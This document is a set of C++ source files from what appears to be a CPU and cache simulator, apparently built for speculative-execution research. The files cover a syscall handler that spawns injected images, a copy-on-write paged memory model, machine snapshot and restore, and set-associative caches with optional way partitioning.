  for (std::uint64_t i = 0; i < kMaxPathLen; ++i) {
    if (!machine_.memory().check(path_addr + i, 1, AccessKind::kRead)) break;
    const char c = static_cast<char>(machine_.memory().read_u8(path_addr + i));
    if (c == '\0') break;
    path.push_back(c);
  }

  const auto it = registry_.find(path);
  if (it == registry_.end() ||
      static_cast<int>(saved_contexts_.size()) >= config_.max_execve_depth) {
    cpu.set_reg(0, static_cast<std::uint64_t>(-1));
    return SyscallOutcome::kContinue;
  }

  LoadInfo info;
  const auto already = loaded_.find(path);
  if (already == loaded_.end()) {
    // First spawn: carve a stack for the injected image, then map it.
    const std::uint64_t stack_top = next_stack_top_;
    const std::uint64_t stack_lo = stack_top - config_.stack_size;
    machine_.memory().set_permissions(stack_lo, config_.stack_size, kPermRW);
    next_stack_top_ = stack_lo - Memory::kPageSize;
    info = map_image(path, it->second);
    injected_stack_tops_[path] = stack_top;
  } else {
    // Re-spawn (or self-execve of an already-mapped image): rewrite the
    // image so its data segments are pristine, and make sure an injected
    // stack exists — the main binary was started on the primary stack.
    if (injected_stack_tops_.find(path) == injected_stack_tops_.end()) {
      const std::uint64_t stack_top = next_stack_top_;
      const std::uint64_t stack_lo = stack_top - config_.stack_size;
      machine_.memory().set_permissions(stack_lo, config_.stack_size,
                                        kPermRW);
      next_stack_top_ = stack_lo - Memory::kPageSize;
      injected_stack_tops_[path] = stack_top;
    }
    info = already->second;
    Memory& mem = machine_.memory();
    const Program& program = it->second;
    for (std::size_t si = 0; si < program.segments.size(); ++si) {
      const Segment& seg = program.segments[si];
      std::vector<std::uint8_t> bytes = seg.bytes;
      for (const Relocation& rel : program.relocations) {
        if (rel.segment != si) continue;
        const int width = rel.kind == RelocKind::kImm32 ? 4 : 8;
        std::uint64_t v = 0;
        for (int i = width - 1; i >= 0; --i)
          v = (v << 8) | bytes[rel.offset + static_cast<std::uint64_t>(i)];
        v += info.base_delta;
        for (int i = 0; i < width; ++i)
          bytes[rel.offset + static_cast<std::uint64_t>(i)] =
              static_cast<std::uint8_t>(v >> (8 * i));
      }
      mem.write_bytes(seg.addr + info.base_delta, bytes);
    }
    // The rewrite restored pristine segment bytes, clobbering any in-place
    // edits (fence hints) the load hook made — re-fire it.
    if (load_hook_) load_hook_(machine_, info, false);
  }

  SavedContext ctx;
  for (int r = 0; r < isa::kNumRegisters; ++r) ctx.regs[r] = cpu.reg(r);
  ctx.pc = cpu.pc();  // already past the syscall: the gadget's ret
  saved_contexts_.push_back(ctx);
  if (config_.ward_split && saved_contexts_.size() == 1) {
    ward_lock_host();
  }
  ++execve_count_;
  // Depth as the value: nested spawns render as stacked markers.
  obs::trace_instant("kernel.execve", cpu.cycle(),
                     static_cast<double>(saved_contexts_.size()));

  for (int r = 0; r < isa::kNumRegisters; ++r) cpu.set_reg(r, 0);
  cpu.set_sp(injected_stack_tops_.at(path) - 64);
  cpu.set_pc(info.entry);
  return SyscallOutcome::kContinue;
}

void Machine::publish_metrics(const std::string& prefix) const {
  if constexpr (!obs::kEnabled) return;
  auto& reg = obs::MetricsRegistry::instance();
  const PmuSnapshot& snap = pmu_.snapshot();
  for (std::size_t e = 0; e < kEventCount; ++e) {
    reg.counter(prefix + ".pmu." +
                std::string(event_name(static_cast<Event>(e))))
        .add(snap[e]);
  }
  hierarchy_.publish_metrics(prefix + ".cache");
  predictor_.publish_metrics(prefix + ".predictor");
  reg.counter(prefix + ".cpu.spec_episodes").add(cpu_.spec_episodes());
  reg.counter(prefix + ".cpu.cycles").add(cpu_.cycle());
  reg.counter(prefix + ".cpu.retired").add(cpu_.retired());
}

}  // namespace crs::sim
