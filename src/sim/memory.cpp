#include "sim/memory.hpp"

#include "support/error.hpp"

namespace crs::sim {

Memory::Memory(std::uint64_t size_bytes) {
  CRS_ENSURE(size_bytes > 0, "memory size must be positive");
  const std::uint64_t pages = (size_bytes + kPageSize - 1) / kPageSize;
  bytes_.resize(pages * kPageSize, 0);
  perms_.resize(pages, kPermNone);
  versions_.resize(pages, 1);
}

void Memory::set_permissions(std::uint64_t addr, std::uint64_t len,
                             Perm perm) {
  CRS_ENSURE(len > 0, "set_permissions with zero length");
  CRS_ENSURE(addr + len <= size(), "set_permissions out of range");
  const std::uint64_t first = addr / kPageSize;
  const std::uint64_t last = (addr + len - 1) / kPageSize;
  for (std::uint64_t p = first; p <= last; ++p) {
    perms_[p] = static_cast<std::uint8_t>(perm);
  }
  // Permission changes invalidate derived state too (a page remapped
  // non-executable must not serve stale decoded instructions).
  bump_versions(addr, len);
}

Perm Memory::permissions_at(std::uint64_t addr) const {
  if (addr >= size()) return kPermNone;
  return static_cast<Perm>(perms_[addr / kPageSize]);
}

bool Memory::check(std::uint64_t addr, std::uint64_t len,
                   AccessKind kind) const {
  if (len == 0 || addr >= size() || size() - addr < len) return false;
  std::uint8_t needed = 0;
  switch (kind) {
    case AccessKind::kRead:
      needed = kPermRead;
      break;
    case AccessKind::kWrite:
      needed = kPermWrite;
      break;
    case AccessKind::kExecute:
      needed = kPermExec;
      break;
  }
  const std::uint64_t first = addr / kPageSize;
  const std::uint64_t last = (addr + len - 1) / kPageSize;
  for (std::uint64_t p = first; p <= last; ++p) {
    if ((perms_[p] & needed) == 0) return false;
  }
  return true;
}

std::uint8_t Memory::read_u8(std::uint64_t addr) const {
  CRS_ENSURE(addr < size(), "read_u8 out of range");
  return bytes_[addr];
}

std::uint64_t Memory::read_u64(std::uint64_t addr) const {
  CRS_ENSURE(addr + 8 <= size(), "read_u64 out of range");
  std::uint64_t v = 0;
  for (int i = 7; i >= 0; --i) v = (v << 8) | bytes_[addr + static_cast<std::uint64_t>(i)];
  return v;
}

void Memory::write_u8(std::uint64_t addr, std::uint8_t value) {
  CRS_ENSURE(addr < size(), "write_u8 out of range");
  bytes_[addr] = value;
  ++versions_[addr / kPageSize];
}

void Memory::write_u64(std::uint64_t addr, std::uint64_t value) {
  CRS_ENSURE(addr + 8 <= size(), "write_u64 out of range");
  for (int i = 0; i < 8; ++i) {
    bytes_[addr + static_cast<std::uint64_t>(i)] =
        static_cast<std::uint8_t>(value >> (8 * i));
  }
  bump_versions(addr, 8);
}

void Memory::write_bytes(std::uint64_t addr,
                         std::span<const std::uint8_t> data) {
  CRS_ENSURE(addr + data.size() <= size(), "write_bytes out of range");
  if (data.empty()) return;
  for (std::size_t i = 0; i < data.size(); ++i) bytes_[addr + i] = data[i];
  bump_versions(addr, data.size());
}

std::span<const std::uint8_t> Memory::read_span(std::uint64_t addr,
                                                std::uint64_t len) const {
  CRS_ENSURE(addr + len <= size(), "read_span out of range");
  return std::span<const std::uint8_t>(bytes_).subspan(addr, len);
}

std::vector<std::uint8_t> Memory::read_bytes(std::uint64_t addr,
                                             std::uint64_t len) const {
  CRS_ENSURE(addr + len <= size(), "read_bytes out of range");
  return std::vector<std::uint8_t>(bytes_.begin() + static_cast<std::ptrdiff_t>(addr),
                                   bytes_.begin() + static_cast<std::ptrdiff_t>(addr + len));
}

}  // namespace crs::sim
