#include "sim/memory.hpp"

#include <algorithm>
#include <cstring>

#include "support/error.hpp"

namespace crs::sim {

namespace {

/// The one frame every pristine page of every image aliases. Never written
/// (forks promote before their first write), so sharing it across images,
/// forks and threads is safe.
const std::uint8_t* zero_page() {
  static const std::array<std::uint8_t, Memory::kPageSize> zeros{};
  return zeros.data();
}

}  // namespace

Memory::Memory(std::uint64_t size_bytes) {
  CRS_ENSURE(size_bytes > 0, "memory size must be positive");
  const std::uint64_t pages = (size_bytes + kPageSize - 1) / kPageSize;
  bytes_.resize(pages * kPageSize, 0);
  size_ = bytes_.size();
  read_frames_.resize(pages);
  write_frames_.resize(pages);
  for (std::uint64_t p = 0; p < pages; ++p) {
    std::uint8_t* frame = bytes_.data() + p * kPageSize;
    read_frames_[p] = frame;
    write_frames_[p] = frame;
  }
  perms_.resize(pages, kPermNone);
  versions_.resize(pages, 1);
}

Memory::Memory(std::shared_ptr<const MemoryImage> image)
    : base_(std::move(image)) {
  CRS_ENSURE(base_ != nullptr, "fork from a null MemoryImage");
  size_ = base_->size_;
  read_frames_ = base_->frames_;
  write_frames_.assign(base_->frames_.size(), nullptr);
  perms_ = base_->perms_;
  versions_ = base_->versions_;
}

std::shared_ptr<const MemoryImage> Memory::freeze() const {
  auto img = std::make_shared<MemoryImage>();
  img->size_ = size_;
  img->perms_ = perms_;
  img->versions_ = versions_;
  img->frames_.resize(page_count());
  for (std::uint64_t p = 0; p < page_count(); ++p) {
    // Version 1 means byte-for-byte pristine (zeroed, kPermNone): alias the
    // shared zero page instead of storing 4 KiB of zeros.
    if (versions_[p] == 1) {
      img->frames_[p] = zero_page();
      continue;
    }
    img->storage_.emplace_back();
    std::memcpy(img->storage_.back().data(), read_frames_[p], kPageSize);
    img->frames_[p] = img->storage_.back().data();
  }
  return img;
}

std::uint8_t* Memory::promote(std::uint64_t page) {
  private_frames_.emplace_back();
  std::uint8_t* frame = private_frames_.back().data();
  std::memcpy(frame, read_frames_[page], kPageSize);
  read_frames_[page] = frame;
  write_frames_[page] = frame;
  ++promoted_pages_;
  return frame;
}

void Memory::set_permissions(std::uint64_t addr, std::uint64_t len,
                             Perm perm) {
  CRS_ENSURE(addr <= size() && len <= size() - addr,
             "set_permissions out of range");
  if (len == 0) return;  // no page overlaps an empty span
  const std::uint64_t first = addr / kPageSize;
  const std::uint64_t last = (addr + len - 1) / kPageSize;
  for (std::uint64_t p = first; p <= last; ++p) {
    perms_[p] = static_cast<std::uint8_t>(perm);
  }
  // Permission changes invalidate derived state too (a page remapped
  // non-executable must not serve stale decoded instructions). No frame
  // promotion: permissions live in per-fork metadata, not in the frames.
  bump_versions(addr, len);
}

Perm Memory::permissions_at(std::uint64_t addr) const {
  if (addr >= size()) return kPermNone;
  return static_cast<Perm>(perms_[addr / kPageSize]);
}

bool Memory::check(std::uint64_t addr, std::uint64_t len,
                   AccessKind kind) const {
  if (len == 0 || addr >= size() || size() - addr < len) return false;
  std::uint8_t needed = 0;
  switch (kind) {
    case AccessKind::kRead:
      needed = kPermRead;
      break;
    case AccessKind::kWrite:
      needed = kPermWrite;
      break;
    case AccessKind::kExecute:
      needed = kPermExec;
      break;
  }
  const std::uint64_t first = addr / kPageSize;
  const std::uint64_t last = (addr + len - 1) / kPageSize;
  for (std::uint64_t p = first; p <= last; ++p) {
    if ((perms_[p] & needed) == 0) return false;
  }
  return true;
}

std::uint8_t Memory::read_u8(std::uint64_t addr) const {
  CRS_ENSURE(addr < size(), "read_u8 out of range");
  return read_frames_[addr / kPageSize][addr % kPageSize];
}

std::uint64_t Memory::read_u64(std::uint64_t addr) const {
  CRS_ENSURE(addr <= size() - 8 && addr + 8 <= size(), "read_u64 out of range");
  const std::uint64_t off = addr % kPageSize;
  std::uint64_t v = 0;
  if (off + 8 <= kPageSize) {
    const std::uint8_t* f = read_frames_[addr / kPageSize] + off;
    for (int i = 7; i >= 0; --i) v = (v << 8) | f[i];
    return v;
  }
  for (int i = 7; i >= 0; --i) {
    const std::uint64_t a = addr + static_cast<std::uint64_t>(i);
    v = (v << 8) | read_frames_[a / kPageSize][a % kPageSize];
  }
  return v;
}

void Memory::write_u8(std::uint64_t addr, std::uint8_t value) {
  CRS_ENSURE(addr < size(), "write_u8 out of range");
  const std::uint64_t page = addr / kPageSize;
  frame_for_write(page)[addr % kPageSize] = value;
  ++versions_[page];
}

void Memory::write_u64(std::uint64_t addr, std::uint64_t value) {
  CRS_ENSURE(addr <= size() - 8 && addr + 8 <= size(),
             "write_u64 out of range");
  const std::uint64_t off = addr % kPageSize;
  if (off + 8 <= kPageSize) {
    std::uint8_t* f = frame_for_write(addr / kPageSize) + off;
    for (int i = 0; i < 8; ++i) {
      f[i] = static_cast<std::uint8_t>(value >> (8 * i));
    }
  } else {
    for (int i = 0; i < 8; ++i) {
      const std::uint64_t a = addr + static_cast<std::uint64_t>(i);
      frame_for_write(a / kPageSize)[a % kPageSize] =
          static_cast<std::uint8_t>(value >> (8 * i));
    }
  }
  bump_versions(addr, 8);
}

void Memory::write_bytes(std::uint64_t addr,
                         std::span<const std::uint8_t> data) {
  CRS_ENSURE(addr <= size() && data.size() <= size() - addr,
             "write_bytes out of range");
  if (data.empty()) return;
  std::uint64_t cursor = addr;
  std::size_t written = 0;
  while (written < data.size()) {
    const std::uint64_t page = cursor / kPageSize;
    const std::uint64_t off = cursor % kPageSize;
    const std::size_t chunk = static_cast<std::size_t>(
        std::min<std::uint64_t>(kPageSize - off, data.size() - written));
    std::memcpy(frame_for_write(page) + off, data.data() + written, chunk);
    cursor += chunk;
    written += chunk;
  }
  bump_versions(addr, data.size());
}

std::span<const std::uint8_t> Memory::read_span(std::uint64_t addr,
                                                std::uint64_t len) const {
  CRS_ENSURE(addr <= size() && len <= size() - addr, "read_span out of range");
  if (len == 0) return {};
  const std::uint64_t first = addr / kPageSize;
  const std::uint64_t last = (addr + len - 1) / kPageSize;
  const std::uint8_t* base = read_frames_[first] + addr % kPageSize;
  bool contiguous = true;
  for (std::uint64_t p = first; p < last; ++p) {
    if (read_frames_[p + 1] != read_frames_[p] + kPageSize) {
      contiguous = false;
      break;
    }
  }
  if (contiguous) return {base, len};
  // The span crosses frames that are not physically adjacent (possible only
  // in COW mode, e.g. a promoted page next to a shared one): assemble a
  // copy. Callers on the fetch fast path consume the span immediately.
  span_scratch_.resize(len);
  std::uint64_t cursor = addr;
  std::size_t copied = 0;
  while (copied < len) {
    const std::uint64_t page = cursor / kPageSize;
    const std::uint64_t off = cursor % kPageSize;
    const std::size_t chunk = static_cast<std::size_t>(
        std::min<std::uint64_t>(kPageSize - off, len - copied));
    std::memcpy(span_scratch_.data() + copied, read_frames_[page] + off,
                chunk);
    cursor += chunk;
    copied += chunk;
  }
  return {span_scratch_.data(), len};
}

std::vector<std::uint8_t> Memory::read_bytes(std::uint64_t addr,
                                             std::uint64_t len) const {
  CRS_ENSURE(addr <= size() && len <= size() - addr, "read_bytes out of range");
  std::vector<std::uint8_t> out(len);
  std::uint64_t cursor = addr;
  std::size_t copied = 0;
  while (copied < len) {
    const std::uint64_t page = cursor / kPageSize;
    const std::uint64_t off = cursor % kPageSize;
    const std::size_t chunk = static_cast<std::size_t>(
        std::min<std::uint64_t>(kPageSize - off, len - copied));
    std::memcpy(out.data() + copied, read_frames_[page] + off, chunk);
    cursor += chunk;
    copied += chunk;
  }
  return out;
}

}  // namespace crs::sim
