// Machine checkpoint/restore: the execution-side half of the fast-reset
// engine (DESIGN.md §10).
//
// `Machine::snapshot()` captures the full architectural and
// micro-architectural state — memory pages with their permissions and
// content versions (including ward-locked pages), cache contents, partition
// state and per-level stats, PHT/BTB/RSB, PMU counters, and every CPU
// register/counter — and `Machine::restore()` rolls the machine back using
// dirty-page tracking: the per-page monotonic content versions that already
// keep the decode cache coherent double as a dirty bitmap, so a restore
// touches only the pages mutated since the snapshot instead of memcpy'ing
// the whole 16 MB address space.
//
// Invariant: restore BUMPS the version of every page it rewrites (and
// re-baselines the snapshot to the new value); it never rolls a version
// back. The decode cache validates pre-decoded slots with a version
// equality compare, so reusing an old version number could let slots
// decoded from a later run's bytes appear fresh for the restored bytes.
// Monotonically advancing versions make every restored page decode-miss
// once and re-decode from the restored contents — self-modifying code and
// fence-hint rewrites can never leak across a restore.
#pragma once

#include <array>
#include <cstdint>
#include <memory>
#include <optional>
#include <vector>

#include "sim/kernel.hpp"

namespace crs::sim {

/// Opaque checkpoint of one Machine. Created by `Machine::snapshot()`,
/// consumed (repeatedly) by `Machine::restore()` on the SAME machine. The
/// snapshot is mutable: each restore re-baselines its dirty-page tracking,
/// so back-to-back attempt loops stay O(pages touched per attempt).
class MachineSnapshot {
 public:
  MachineSnapshot() = default;

  /// Pages whose contents/permissions were already non-pristine at capture
  /// time (zero for the usual pre-start capture of a fresh machine).
  std::size_t stored_page_count() const { return pages_.size(); }
  /// Pages rewritten by the most recent restore.
  std::size_t last_restored_pages() const { return last_restored_pages_; }
  std::uint64_t restore_count() const { return restore_count_; }

 private:
  friend class SnapshotAccess;

  struct PageImage {
    std::uint64_t index = 0;
    std::uint8_t perm = 0;
    std::array<std::uint8_t, Memory::kPageSize> bytes{};
  };

  std::vector<PageImage> pages_;         // sorted by page index
  std::vector<std::uint32_t> baseline_;  // per-page version at last (re)base
  std::optional<MemoryHierarchy> hierarchy_;
  std::optional<BranchPredictor> predictor_;
  Pmu pmu_;

  struct CpuImage {
    std::uint64_t regs[isa::kNumRegisters] = {};
    std::uint64_t reg_ready[isa::kNumRegisters] = {};
    std::uint64_t pc = 0;
    std::uint64_t cycle = 0;
    std::uint64_t retired = 0;
    std::uint64_t spec_episodes = 0;
    CpuMitigationStats mstats;
    bool halted = true;
    Fault fault;
  } cpu_;

  std::size_t last_restored_pages_ = 0;
  std::uint64_t restore_count_ = 0;
};

/// Frozen, shareable machine-replication baseline (DESIGN.md §15): one
/// machine's full state — the memory contents as a refcounted sparse
/// MemoryImage, plus caches, predictor, PMU and CPU — captured by
/// Machine::freeze(). Immutable after creation, so any number of forks on
/// any threads can replicate from it concurrently; a fork costs the
/// metadata tables and the micro-architectural copy, never the 16 MB
/// address space.
class MachineBaseline {
 public:
  MachineBaseline() = default;
  MachineBaseline(const MachineBaseline&) = delete;
  MachineBaseline& operator=(const MachineBaseline&) = delete;

  const MachineConfig& config() const { return config_; }
  const std::shared_ptr<const MemoryImage>& image() const { return image_; }
  /// Current references to the shared image: this baseline plus every live
  /// fork (the soak tests bound it to prove forks release their frames).
  long image_use_count() const { return image_.use_count(); }

 private:
  friend class SnapshotAccess;

  MachineConfig config_;
  std::shared_ptr<const MemoryImage> image_;
  MachineSnapshot state_;  // micro-architectural + CPU state at freeze time
};

/// Process-wide fork baseline for `config`: freezes one fresh machine per
/// distinct config (thread-safe, built at most once) and hands out the
/// shared baseline. Because machine construction is deterministic, a fork
/// of this baseline is bit-identical to Machine(config) — the property the
/// cow-equivalence tests pin.
std::shared_ptr<const MachineBaseline> shared_baseline(
    const MachineConfig& config);

/// Per-thread pool of reusable machines keyed by config hash. `acquire`
/// returns a machine restored to its freshly-constructed state — by the
/// snapshot contract, indistinguishable from `Machine(config)` — paying the
/// construction only on first use per config: a full build (16 MB
/// zero-fill, cache/predictor allocation) with cow off, an O(metadata) fork
/// of the shared baseline with cow on. Bounded LRU: least-recently-used
/// entries are dropped when `capacity` distinct configs are live. The
/// returned reference stays valid until the next acquire() evicts it, so
/// use one machine at a time.
class MachinePool {
 public:
  explicit MachinePool(std::size_t capacity = 6) : capacity_(capacity) {}

  Machine& acquire(const MachineConfig& config);

  /// Like acquire(config), but misses replicate by forking `base` instead
  /// of consulting the cow switch. The caller keeps the baseline alive.
  Machine& fork_from(const std::shared_ptr<const MachineBaseline>& base);

  std::size_t size() const { return entries_.size(); }
  std::uint64_t hits() const { return hits_; }
  std::uint64_t misses() const { return misses_; }
  std::uint64_t forks() const { return forks_; }

 private:
  struct Entry {
    std::uint64_t key = 0;
    std::uint64_t last_use = 0;
    std::unique_ptr<Machine> machine;
    std::unique_ptr<MachineSnapshot> snapshot;
  };

  Machine& acquire_impl(const MachineConfig& config,
                        const std::shared_ptr<const MachineBaseline>* base);

  std::size_t capacity_;
  std::uint64_t tick_ = 0;
  std::uint64_t hits_ = 0;
  std::uint64_t misses_ = 0;
  std::uint64_t forks_ = 0;
  std::vector<Entry> entries_;
};

/// Content hashes for memo keys (support/memo.hpp) covering every field
/// that influences simulated behaviour.
std::uint64_t hash_machine_config(const MachineConfig& config);
std::uint64_t hash_kernel_config(const KernelConfig& config);
std::uint64_t hash_program(const Program& program);

}  // namespace crs::sim
