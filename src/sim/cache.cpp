#include "sim/cache.hpp"

#include <string>

#include "obs/metrics.hpp"
#include "support/error.hpp"

namespace crs::sim {

namespace {
bool is_pow2(std::uint64_t v) { return v != 0 && (v & (v - 1)) == 0; }
}  // namespace

CacheLevel::CacheLevel(const CacheConfig& config) : config_(config) {
  CRS_ENSURE(is_pow2(config.line_size), "cache line size must be a power of two");
  CRS_ENSURE(config.ways > 0, "cache must have at least one way");
  CRS_ENSURE(config.size_bytes % (config.line_size * config.ways) == 0,
             "cache size must be a multiple of line_size * ways");
  num_sets_ = config.size_bytes / (config.line_size * config.ways);
  CRS_ENSURE(is_pow2(num_sets_), "number of sets must be a power of two");
  ways_.resize(static_cast<std::size_t>(num_sets_) * config.ways);
  while ((1u << line_shift_) < config_.line_size) ++line_shift_;
  while ((1u << sets_shift_) < num_sets_) ++sets_shift_;
}

std::uint64_t CacheLevel::set_index(std::uint64_t addr) const {
  return (addr >> line_shift_) & (num_sets_ - 1);
}

std::uint64_t CacheLevel::tag_of(std::uint64_t addr) const {
  return addr >> (line_shift_ + sets_shift_);
}

bool CacheLevel::access_search(std::uint64_t addr) {
  const std::uint64_t line = addr >> line_shift_;
  const std::uint64_t tag = line >> sets_shift_;
  const std::uint64_t set = line & (num_sets_ - 1);
  Way* base = &ways_[set * config_.ways];
  ++use_counter_;

  // Victim selection over [lo, hi): prefer an invalid way, else LRU.
  const auto select_victim = [&](std::uint32_t lo, std::uint32_t hi) {
    Way* victim = &base[lo];
    for (std::uint32_t w = lo; w < hi; ++w) {
      Way& way = base[w];
      if (!way.valid) {
        victim = &way;  // prefer an invalid way
      } else if (victim->valid && way.lru < victim->lru) {
        victim = &way;
      }
    }
    return victim;
  };

  // Hit search across the whole set: partitioning only constrains where
  // fills land, it never hides a resident line (lines filled before the
  // boundary was armed stay usable wherever they are).
  for (std::uint32_t w = 0; w < config_.ways; ++w) {
    Way& way = base[w];
    if (way.valid && way.tag == tag) {
      way.lru = use_counter_;
      mru_line_ = line;
      mru_way_ = &way;
      if constexpr (obs::kEnabled) ++stats_.hits;
      return true;
    }
  }

  std::uint32_t victim_lo = 0;
  std::uint32_t victim_hi = config_.ways;
  if (partition_armed_) {
    if (addr < partition_boundary_) {
      victim_hi = config_.partition_ways;
    } else {
      victim_lo = config_.partition_ways;
    }
  }
  Way* victim = select_victim(victim_lo, victim_hi);
  if (partition_armed_) {
    ++stats_.partition_fills;
    const Way* unrestricted = select_victim(0, config_.ways);
    if (unrestricted < base + victim_lo || unrestricted >= base + victim_hi) {
      // The set-wide replacement policy would have displaced a line in the
      // other domain's ways — the cross-domain eviction the partition
      // exists to prevent.
      ++stats_.partition_blocked;
    }
  }
  if constexpr (obs::kEnabled) {
    ++stats_.misses;
    if (victim->valid) ++stats_.evictions;
  }
  victim->valid = true;
  victim->tag = tag;
  victim->lru = use_counter_;
  mru_line_ = line;
  mru_way_ = victim;
  return false;
}

bool CacheLevel::probe(std::uint64_t addr) const {
  const std::uint64_t set = set_index(addr);
  const std::uint64_t tag = tag_of(addr);
  const Way* base = &ways_[set * config_.ways];
  for (std::uint32_t w = 0; w < config_.ways; ++w) {
    if (base[w].valid && base[w].tag == tag) return true;
  }
  return false;
}

void CacheLevel::flush_line(std::uint64_t addr) {
  const std::uint64_t set = set_index(addr);
  const std::uint64_t tag = tag_of(addr);
  Way* base = &ways_[set * config_.ways];
  for (std::uint32_t w = 0; w < config_.ways; ++w) {
    if (base[w].valid && base[w].tag == tag) {
      base[w].valid = false;
      return;
    }
  }
}

void CacheLevel::clear() {
  for (auto& way : ways_) way = Way{};
  use_counter_ = 0;
  // Disarm the MRU memo: a stale memo after clear() would let
  // access_repeat_hits stamp an invalidated way (access() itself rechecks
  // valid+tag, but the batched-credit path trusts the memo by contract).
  mru_line_ = ~0ull;
  mru_way_ = nullptr;
}

std::string CacheLevel::check_invariants() const {
  for (std::uint64_t set = 0; set < num_sets_; ++set) {
    const Way* base = &ways_[set * config_.ways];
    for (std::uint32_t w = 0; w < config_.ways; ++w) {
      const Way& way = base[w];
      if (!way.valid) continue;
      if (way.lru > use_counter_) {
        return "set " + std::to_string(set) + " way " + std::to_string(w) +
               ": lru stamp " + std::to_string(way.lru) +
               " ahead of use counter " + std::to_string(use_counter_);
      }
      for (std::uint32_t v = w + 1; v < config_.ways; ++v) {
        if (base[v].valid && base[v].tag == way.tag) {
          return "set " + std::to_string(set) + ": duplicate tag " +
                 std::to_string(way.tag) + " in ways " + std::to_string(w) +
                 " and " + std::to_string(v);
        }
      }
    }
  }
  // The MRU memo arms and disarms as a pair: a way pointer without a
  // remembered line (or vice versa) means a half-scrubbed memo — the state
  // access_repeat_hits' unarmed fallback keys off.
  if ((mru_way_ == nullptr) != (mru_line_ == ~0ull)) {
    return "MRU memo half-armed: way pointer and remembered line disagree";
  }
  // Stale memos (way reused for another line, or flushed) are legal — the
  // tag+valid recheck in access() catches them — but the memoized way must
  // at least live inside the set of the remembered line.
  if (mru_way_ != nullptr && mru_line_ != ~0ull) {
    const std::uint64_t memo_set = mru_line_ & (num_sets_ - 1);
    const Way* base = &ways_[memo_set * config_.ways];
    if (mru_way_ < base || mru_way_ >= base + config_.ways) {
      return "MRU memo way points outside the set of its remembered line";
    }
  }
  return {};
}

std::size_t CacheLevel::occupancy() const {
  std::size_t n = 0;
  for (const auto& way : ways_) n += way.valid ? 1 : 0;
  return n;
}

MemoryHierarchy::MemoryHierarchy(const HierarchyConfig& config)
    : config_(config), l1d_(config.l1d), l1i_(config.l1i), l2_(config.l2) {}

AccessOutcome MemoryHierarchy::access_data(std::uint64_t addr) {
  AccessOutcome out;
  out.l1_hit = l1d_.access(addr);
  if (out.l1_hit) {
    out.latency = config_.timings.l1_hit;
    return out;
  }
  out.l2_hit = l2_.access(addr);
  out.latency = out.l2_hit ? config_.timings.l2_hit : config_.timings.memory;
  return out;
}

void MemoryHierarchy::flush_data(std::uint64_t addr) {
  l1d_.flush_line(addr);
  l2_.flush_line(addr);
}

std::size_t MemoryHierarchy::flush_l1() {
  const std::size_t dropped = l1d_.occupancy() + l1i_.occupancy();
  l1d_.clear();
  l1i_.clear();
  return dropped;
}

void MemoryHierarchy::clear() {
  l1d_.clear();
  l1i_.clear();
  l2_.clear();
}

void MemoryHierarchy::publish_metrics(const std::string& prefix) const {
  if constexpr (!obs::kEnabled) return;
  auto& reg = obs::MetricsRegistry::instance();
  const auto publish = [&](const char* level, const CacheLevelStats& s) {
    const std::string base = prefix + "." + level;
    reg.counter(base + ".hits").add(s.hits);
    reg.counter(base + ".misses").add(s.misses);
    reg.counter(base + ".evictions").add(s.evictions);
    reg.counter(base + ".partition_fills").add(s.partition_fills);
    reg.counter(base + ".partition_blocked").add(s.partition_blocked);
  };
  publish("l1d", l1d_.stats());
  publish("l1i", l1i_.stats());
  publish("l2", l2_.stats());
}

std::string MemoryHierarchy::check_invariants() const {
  if (auto v = l1d_.check_invariants(); !v.empty()) return "l1d: " + v;
  if (auto v = l1i_.check_invariants(); !v.empty()) return "l1i: " + v;
  if (auto v = l2_.check_invariants(); !v.empty()) return "l2: " + v;
  return {};
}

}  // namespace crs::sim
