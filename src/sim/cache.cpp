#include "sim/cache.hpp"

#include "support/error.hpp"

namespace crs::sim {

namespace {
bool is_pow2(std::uint64_t v) { return v != 0 && (v & (v - 1)) == 0; }
}  // namespace

CacheLevel::CacheLevel(const CacheConfig& config) : config_(config) {
  CRS_ENSURE(is_pow2(config.line_size), "cache line size must be a power of two");
  CRS_ENSURE(config.ways > 0, "cache must have at least one way");
  CRS_ENSURE(config.size_bytes % (config.line_size * config.ways) == 0,
             "cache size must be a multiple of line_size * ways");
  num_sets_ = config.size_bytes / (config.line_size * config.ways);
  CRS_ENSURE(is_pow2(num_sets_), "number of sets must be a power of two");
  ways_.resize(static_cast<std::size_t>(num_sets_) * config.ways);
  while ((1u << line_shift_) < config_.line_size) ++line_shift_;
  while ((1u << sets_shift_) < num_sets_) ++sets_shift_;
}

std::uint64_t CacheLevel::set_index(std::uint64_t addr) const {
  return (addr >> line_shift_) & (num_sets_ - 1);
}

std::uint64_t CacheLevel::tag_of(std::uint64_t addr) const {
  return addr >> (line_shift_ + sets_shift_);
}

bool CacheLevel::access_search(std::uint64_t addr) {
  const std::uint64_t line = addr >> line_shift_;
  const std::uint64_t tag = line >> sets_shift_;
  const std::uint64_t set = line & (num_sets_ - 1);
  Way* base = &ways_[set * config_.ways];
  ++use_counter_;
  Way* victim = base;
  for (std::uint32_t w = 0; w < config_.ways; ++w) {
    Way& way = base[w];
    if (way.valid && way.tag == tag) {
      way.lru = use_counter_;
      mru_line_ = line;
      mru_way_ = &way;
      return true;
    }
    if (!way.valid) {
      victim = &way;  // prefer an invalid way
    } else if (victim->valid && way.lru < victim->lru) {
      victim = &way;
    }
  }
  victim->valid = true;
  victim->tag = tag;
  victim->lru = use_counter_;
  mru_line_ = line;
  mru_way_ = victim;
  return false;
}

bool CacheLevel::probe(std::uint64_t addr) const {
  const std::uint64_t set = set_index(addr);
  const std::uint64_t tag = tag_of(addr);
  const Way* base = &ways_[set * config_.ways];
  for (std::uint32_t w = 0; w < config_.ways; ++w) {
    if (base[w].valid && base[w].tag == tag) return true;
  }
  return false;
}

void CacheLevel::flush_line(std::uint64_t addr) {
  const std::uint64_t set = set_index(addr);
  const std::uint64_t tag = tag_of(addr);
  Way* base = &ways_[set * config_.ways];
  for (std::uint32_t w = 0; w < config_.ways; ++w) {
    if (base[w].valid && base[w].tag == tag) {
      base[w].valid = false;
      return;
    }
  }
}

void CacheLevel::clear() {
  for (auto& way : ways_) way = Way{};
  use_counter_ = 0;
}

MemoryHierarchy::MemoryHierarchy(const HierarchyConfig& config)
    : config_(config), l1d_(config.l1d), l1i_(config.l1i), l2_(config.l2) {}

AccessOutcome MemoryHierarchy::access_data(std::uint64_t addr) {
  AccessOutcome out;
  out.l1_hit = l1d_.access(addr);
  if (out.l1_hit) {
    out.latency = config_.timings.l1_hit;
    return out;
  }
  out.l2_hit = l2_.access(addr);
  out.latency = out.l2_hit ? config_.timings.l2_hit : config_.timings.memory;
  return out;
}

